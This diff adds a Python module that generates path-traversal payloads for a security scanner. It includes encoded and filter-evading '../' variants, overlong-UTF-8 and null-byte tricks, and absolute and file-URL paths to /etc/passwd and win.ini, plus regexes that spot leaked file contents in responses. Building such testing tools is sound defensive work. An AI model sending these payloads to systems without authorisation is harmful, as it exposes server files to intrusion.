@@ -1,0 +1,81 @@
+"""Ways to write a path that leads out of the folder it is looked up in. Pure.
+
+All are raw: they go into a request as they stand here.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable
+
+DEPTH = 10
+"""Folders that are climbed: more than any path has. What is too much stays at the root."""
+
+PLAIN: dict[str, str] = {
+    "dot segments": "../",
+    "encoded dots": "%2e%2e/",
+    "encoded slashes": "..%2f",
+    "encoded dots and slashes": "%2e%2e%2f",
+    "backslashes": "..%5c",
+}
+"""Steps up that one decoding makes plain."""
+
+EVASIVE: dict[str, str] = {
+    "dots encoded twice": "%252e%252e%252f",
+    "slashes encoded twice": "..%252f",
+    "steps within steps": "....//",
+    "steps within encoded steps": "....%2f%2f",
+    "steps in halves": "..././",
+    "overlong dots": "%c0%ae%c0%ae/",
+    "overlong slashes": "..%c0%af",
+    "wide dots": "%ef%bc%8e%ef%bc%8e/",
+    "dots with a parameter": "..;/",
+}
+"""Steps up that a filter overlooks, and a later reader does not."""
+
+FILES = ("etc/passwd", "windows/win.ini")
+"""Files that every system of a kind has, and that everybody there may read."""
+
+_PASSWD = re.compile(rb"^root:[^:\n]*:0:0:[^\n]*:/", re.MULTILINE)
+_INI = re.compile(rb"^\[(fonts|extensions|mci extensions)\]\s*$", re.MULTILINE | re.IGNORECASE)
+
+
+def gives_away(body: bytes) -> str:
+    """Which file of the system a body shows; empty for none. A mere name of it shows nothing."""
+    if _PASSWD.search(body):
+        return FILES[0]
+    if len({m.lower() for m in _INI.findall(body)}) > 1:
+        return FILES[1]
+    return ""
+
+
+def climbed(step: str, inner: str = FILES[0]) -> str:
+    """A file of the system by steps of one kind."""
+    return step * DEPTH + inner
+
+
+def beside(step: str, folder: str, name: str) -> str:
+    """A file in the folder next to ours."""
+    slash = "/" if "/" in step else step[-3:]
+    return f"{step}{folder}{slash}{name}"
+
+
+def absolute() -> dict[str, str]:
+    """A file of the system by its whole path."""
+    passwd, ini = (f.replace("/", "%2f") for f in FILES)
+    return {
+        "absolute path": f"%2f{passwd}",
+        "absolute path behind two slashes": f"%2f%2f{passwd}",
+        "absolute path behind a slash": f"/{FILES[0]}",
+        "file URL": f"file:%2f%2f%2f{passwd}",
+        "drive": f"C:%2f{ini}",
+    }
+
+
+def cut_short(endings: Iterable[str]) -> dict[str, str]:
+    """Climbs with an ending that a check asks for, and that a zero byte then cuts off."""
+    return {
+        f"zero byte before {ending}": climbed("..%2f", FILES[0].replace("/", "%2f"))
+        + f"%00{ending}"
+        for ending in endings
+    }
